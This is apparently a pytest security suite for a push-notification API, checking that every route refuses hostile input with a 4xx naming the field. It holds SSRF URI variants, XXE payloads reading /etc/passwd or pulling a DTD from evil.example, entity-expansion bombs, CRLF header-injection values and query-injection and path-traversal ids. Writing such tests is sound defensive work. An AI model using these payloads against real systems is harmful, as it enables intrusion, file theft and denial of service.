"""Hostile input at every route: refused with a 4xx that names the field, never a 500, never misread."""

from __future__ import annotations

import json
from typing import Any

import pytest

from sandbox import SandboxClient
from tests.harness import QueueDriver
from tests.security.support import call, fetch, register, send

TOAST = "<toast><visual><binding template='ToastGeneric'><text>hi</text></binding></visual></toast>"

# What tests/integration/test_delivery.py's HOSTILE list does not already cover.
MORE_HOSTILE_URIS = [
    "https://[::ffff:127.0.0.1]:{port}/?token=abc",
    "https://[::ffff:7f00:1]:{port}/?token=abc",
    "https://[0:0:0:0:0:0:0:1]:{port}/?token=abc",
    "https://[fe80::1%25eth0]:{port}/?token=abc",
    "https://0x7f000001:{port}/?token=abc",
    "https://0x7f.0.0.1:{port}/?token=abc",
    "https://127.1:{port}/?token=abc",
    "https://0:{port}/?token=abc",
    "https://{host}:{port}@evil.example/?token=abc",
    "https://evil.example#@{host}/?token=abc",
    "https://evil.example%2f@{host}/?token=abc",
    "https://{host}%2f@evil.example/?token=abc",
    "https://{host}\\/evil.example/?token=abc",
    "https:\\\\{host}/?token=abc",
    "https:/{host}/?token=abc",
    "https:///{host}/?token=abc",
    "https://localhost%2e:{port}/?token=abc",
    "https://localhost..:{port}/?token=abc",
    "https://localhost\u3002:{port}/?token=abc",  # ideographic full stop
    "https://\uff4cocalhost:{port}/?token=abc",  # fullwidth l
    "https://l\u043ecalhost:{port}/?token=abc",  # Cyrillic o
    "https://xn--lcalhost-9of:{port}/?token=abc",
    "https://local\thost:{port}/?token=abc",
    "https://local\nhost:{port}/?token=abc",
    " https://{host}/?token=abc",
    "https://{host}/?token=abc\r\nX-Evil: 1",
    "https://localhost:443/?token=abc",
    "https://localhost:80/?token=abc",
    "https://localhost:{other}/?token=abc",
    "https://localhost:0{port}/?token=abc",
    "https://localhost:+{port}/?token=abc",
    "https://localhost:{port}:{port}/?token=abc",
    "https://localhost:65536/?token=abc",
    "https://{host}/?token=abc&token=def",
    "https://{host}/?TOKEN=abc",
    "http://{host}/?token=abc",
    "HTTPS://{host}/?token=abc",
    "wss://{host}/?token=abc",
    "https://{host}/" + "a" * 2100 + "?token=abc",
]


def refused(response: Any, field: str | None = None) -> None:
    assert response.status == 400, response.body
    assert response.body["error"]["code"] and response.body["error"]["message"]
    if field is not None:
        assert response.body["error"]["field"] == field


@pytest.fixture
async def device(app_env: dict[str, str], sandbox_client: SandboxClient) -> dict[str, Any]:
    channel = sandbox_client.create_channel()
    response = await register("victim", {"channelUri": channel["channelUri"], "tags": ["t"]})
    assert response.status == 201, response.body
    return {"id": "victim", **channel}


async def test_ssrf_channel_uris_are_refused(app_env: dict[str, str], sandbox: Any) -> None:
    host = f"localhost:{sandbox.port}"
    for template in MORE_HOSTILE_URIS:
        uri = template.format(host=host, port=sandbox.port, other=sandbox.port + 1)
        refused(await register("ssrf", {"channelUri": uri}), "channelUri")
    assert (await fetch("ssrf")).status == 404


XXE = """<?xml version="1.0"?>
<!DOCTYPE toast [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<toast><visual><binding template="ToastGeneric"><text>&xxe;</text></binding></visual></toast>"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE toast [<!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;]>
<toast/>"""
EXTERNAL_DTD = '<?xml version="1.0"?><!DOCTYPE toast SYSTEM "https://evil.example/x.dtd"><toast/>'
BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE toast [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10))
    + "]><toast><visual><binding template='ToastGeneric'><text>&lol9;</text></binding></visual></toast>"
)
QUADRATIC = '<!DOCTYPE tile [<!ENTITY a "' + "a" * 3000 + '">]><tile>' + "&a;" * 100 + "</tile>"


@pytest.mark.parametrize(
    ("kind", "xml"),
    [
        ("toast", XXE),
        ("toast", PARAMETER_ENTITY),
        ("toast", EXTERNAL_DTD),
        ("toast", BILLION_LAUGHS),
        ("tile", QUADRATIC),
        ("badge", '<!DOCTYPE badge [<!ENTITY x "1">]><badge value="&x;"/>'),
    ],
)
async def test_xml_with_dtds_or_entities_is_refused(
    kind: str, xml: str, app_env: dict[str, str], device: dict[str, Any]
) -> None:
    response = await send({"type": kind, "payload": xml, "target": {"installationId": device["id"]}})
    refused(response, "payload")
    queue = QueueDriver(app_env["AzureWebJobsStorage"], app_env["DELIVERY_QUEUE"], "deliver_notifications")
    assert await queue.pending() == 0
    await queue.close()


async def test_oversized_bodies_are_refused_at_every_route(app_env: dict[str, str], device: dict[str, Any]) -> None:
    huge = json.dumps({"channelUri": "x", "pad": "x" * 70_000}).encode()
    assert (await register("big", huge)).body["error"]["code"] == "BodyTooLarge"
    assert (await register("big", huge)).status == 413
    assert (await send(huge)).status == 413
    # Routes without a body ignore one, however large.
    for name, method, params in (
        ("get_installation", "GET", {"installationId": device["id"]}),
        ("get_notification", "GET", {"id": "0" * 32}),
        ("health", "GET", {}),
        ("get_metrics", "GET", {}),
    ):
        response = await call(name, method, "x", huge, **params)
        assert response.status in (200, 404), (name, response.body)
    deleted = await call("delete_installation", "DELETE", "x", huge, installationId="nobody")
    assert deleted.status == 204
    # Within 64 KiB, every field's own limit still holds.
    target = {"installationId": device["id"]}
    cases: list[tuple[Any, str]] = [
        (lambda: register("big", {"channelUri": "https://x/?token=" + "a" * 3000}), "channelUri"),
        (lambda: register("big", {"channelUri": device["channelUri"], "tags": [f"t{i}" for i in range(61)]}), "tags"),
        (lambda: register("big", {"channelUri": device["channelUri"], "tags": ["t" * 121]}), "tags[0]"),
        (lambda: register("a" * 129, {"channelUri": device["channelUri"]}), "installationId"),
        (lambda: send({"type": "raw", "payload": "\u20ac" * 1700, "target": target}), "payload"),
        (lambda: send({"type": "raw", "payloadBase64": "QUFB" * 1700, "target": target}), "payloadBase64"),
        (
            lambda: send({"type": "raw", "payload": "x", "target": {"installationIds": ["a"] * 1001}}),
            "target.installationIds",
        ),
        (
            lambda: send({"type": "raw", "payload": "x", "target": {"tagExpression": "a||" * 400 + "a"}}),
            "target.tagExpression",
        ),
    ]
    for make, field in cases:
        refused(await make(), field)
    refused(
        await send({"type": "raw", "payload": "x", "target": target}, {"Idempotency-Key": "k" * 256}), "Idempotency-Key"
    )


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 50_000,
        b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
        json.dumps({"type": "raw", "payload": "x", "target": {"installationId": "victim"}})[:-1].encode()
        + b',"options":{"X-WNS-TTL":'
        + b"[" * 20_000
        + b"]" * 20_000
        + b"}}",
        ('{"type":"raw","payload":"x","target":' + '{"installationId":' * 3000 + '"a"' + "}" * 3000 + "}").encode(),
    ],
    ids=["arrays", "objects", "in-options", "in-target"],
)
async def test_deeply_nested_json_is_refused(body: bytes, app_env: dict[str, str], device: dict[str, Any]) -> None:
    assert len(body) <= 64 * 1024
    refused(await send(body))
    refused(await register("nested", body))


@pytest.mark.parametrize(
    "options",
    [
        {"X-WNS-Tag": "a\r\nX-Evil: 1"},
        {"X-WNS-Group": "g\r\nX-WNS-Type: wns/raw"},
        {"tag": "a\rb"},
        {"group": "a b"},
        {"X-WNS-Cache-Policy": "cache\r\nX-Evil: 1"},
        {"X-WNS-TTL": "60\r\nX-Evil: 1"},
        {"X-WNS-PRIORITY": "1\r\n"},
        {"X-WNS-RequestForStatus": "true\r\nX-Evil: 1"},
        {"X-WNS-Tag\r\nX-Evil": "1"},
        {"X-WNS-Tag": "\uff41"},
        {"X-WNS-Type": "wns/raw"},
        {"Authorization": "Bearer x"},
    ],
)
async def test_header_injection_through_options_is_refused(
    options: dict[str, Any], app_env: dict[str, str], device: dict[str, Any]
) -> None:
    response = await send(
        {"type": "toast", "payload": TOAST, "target": {"installationId": device["id"]}, "options": options}
    )
    refused(response)
    assert response.body["error"]["field"].startswith("options.")


TRAILING_NEWLINE_XFAIL = pytest.mark.skipif(False, reason="validation uses fullmatch: a trailing newline is refused")


@pytest.mark.parametrize(
    "make",
    [
        pytest.param(
            lambda d: send(
                {
                    "type": "toast",
                    "payload": TOAST,
                    "target": {"installationId": d["id"]},
                    "options": {"X-WNS-Tag": "abc\n"},
                }
            ),
            id="wns-tag",
        ),
        pytest.param(
            lambda d: send(
                {
                    "type": "toast",
                    "payload": TOAST,
                    "target": {"installationId": d["id"]},
                    "options": {"X-WNS-Group": "abc\n"},
                }
            ),
            id="wns-group",
        ),
        pytest.param(lambda d: register("nl", {"channelUri": d["channelUri"], "tags": ["t\n"]}), id="tag"),
        pytest.param(lambda d: fetch("victim\n"), id="installation-id"),
        pytest.param(lambda d: send({"type": "raw", "payload": "x", "target": {"tag": "t\n"}}), id="target-tag"),
    ],
)
@TRAILING_NEWLINE_XFAIL
async def test_a_trailing_newline_is_refused(make: Any, app_env: dict[str, str], device: dict[str, Any]) -> None:
    response = await make(device)
    assert response.status == 400, response.body


METACHARACTERS = [
    "a'",
    "a' or PartitionKey ne '",
    "a' or '1' eq '1",
    "a or b",
    "PartitionKey ne ''",
    "a/b",
    "../victim",
    "a?b",
    "a#b",
    "a%27",
    "a%2Fb",
    "a\\b",
    "a\x00",
    "a b",
    "'",
    "@pk",
    "-a",
    ".",
    "",
]


async def test_ids_with_query_or_path_metacharacters_are_refused(
    app_env: dict[str, str], sandbox_client: SandboxClient
) -> None:
    channel = sandbox_client.create_channel()
    assert (await register("a", {"channelUri": channel["channelUri"]})).status == 201
    for hostile in METACHARACTERS:
        refused(await register(hostile, {"channelUri": channel["channelUri"]}), "installationId")
        refused(await fetch(hostile), "installationId")
        refused(await call("delete_installation", "DELETE", "x", installationId=hostile), "installationId")
        refused(await call("get_notification", "GET", "x", id=hostile), "id")
        for key in ("installationId", "userId"):
            refused(await send({"type": "raw", "payload": "x", "target": {key: hostile}}), f"target.{key}")
        refused(await register("b", {"channelUri": channel["channelUri"], "userId": hostile}), "userId")
    assert (await fetch("a")).status == 200


async def test_accepted_look_alike_ids_each_touch_exactly_one_installation(
    app_env: dict[str, str], sandbox_client: SandboxClient
) -> None:
    ids = ["a", "A", "a.", "a..", "a:", "a@b", "a-", "a_", "a:summary", "t:a", "summary"]
    channels = {}
    for installation_id in ids:
        channels[installation_id] = sandbox_client.create_channel()["channelUri"]
        created = await register(installation_id, {"channelUri": channels[installation_id], "userId": installation_id})
        assert created.status == 201, (installation_id, created.body)
    for installation_id in ids:
        got = await fetch(installation_id)
        assert got.body["installationId"] == installation_id
        assert got.body["channelUri"] == channels[installation_id]
    deleted = await call("delete_installation", "DELETE", "x", installationId="a.")
    assert deleted.status == 204
    assert (await fetch("a.")).status == 404
    for installation_id in ids:
        if installation_id != "a.":
            assert (await fetch(installation_id)).status == 200, installation_id


async def test_tags_with_metacharacters_target_exactly_their_installations(
    app_env: dict[str, str], sandbox_client: SandboxClient
) -> None:
    tagged = {"m1": ["a-b"], "m2": ["a"], "m3": ["a:b", "x@y.z"], "m4": ["a.b"]}
    channels: dict[str, dict[str, Any]] = {}
    for installation_id, tags in tagged.items():
        channels[installation_id] = sandbox_client.create_channel()
        response = await register(
            installation_id, {"channelUri": channels[installation_id]["channelUri"], "tags": tags}
        )
        assert response.status in (201, 400), response.body
        if response.status == 400:  # refusing a tag is fine; storing it half-way is not
            assert response.body["error"]["field"].startswith("tags")
            assert (await fetch(installation_id)).status == 404
            tagged[installation_id] = []
    for hostile in ("a' or PartitionKey ne '", "a/b", "a?b", "a%2F", "a b", "a\\b"):
        refused(await send({"type": "raw", "payload": "x", "target": {"tag": hostile}}), "target.tag")
        refused(await register("m9", {"channelUri": channels["m1"]["channelUri"], "tags": [hostile]}), "tags[0]")
    refused(
        await send({"type": "raw", "payload": "x", "target": {"tagExpression": "a' or PartitionKey ne '"}}),
        "target.tagExpression",
    )
    queue = QueueDriver(app_env["AzureWebJobsStorage"], app_env["DELIVERY_QUEUE"], "deliver_notifications")
    fanout = QueueDriver(app_env["AzureWebJobsStorage"], app_env["FANOUT_QUEUE"], "expand_notification_targets")
    for tag in ("a", "a-b", "a:b", "a.b"):
        expected = {i for i, tags in tagged.items() if tag in tags}
        response = await send({"type": "raw", "payload": f"to {tag}", "target": {"tag": tag}})
        assert response.status == 202, response.body
        await fanout.drain()
        await queue.drain()
        reached = {
            i
            for i, c in channels.items()
            if any(m["payload"] == f"to {tag}" for m in sandbox_client.inbox(c["channelId"]))
        }
        assert reached == expected, tag
    assert not queue.errors and not fanout.errors
    await queue.close()
    await fanout.close()


async def test_a_tag_with_a_hash_is_refused_or_stored_whole(
    app_env: dict[str, str], sandbox_client: SandboxClient
) -> None:
    channel = sandbox_client.create_channel()
    response = await register("hash", {"channelUri": channel["channelUri"], "tags": ["a#b"]})
    assert response.status in (201, 400), response.body
    if response.status == 400:  # refusing the tag is fine; storing it half-way is not
        assert response.body["error"]["field"] == "tags[0]"
        assert (await fetch("hash")).status == 404
    else:
        assert (await fetch("hash")).body["tags"] == ["a#b"]
    sent = await send({"type": "raw", "payload": "x", "target": {"tag": "a#b"}})
    assert sent.status in (202, 400), sent.body
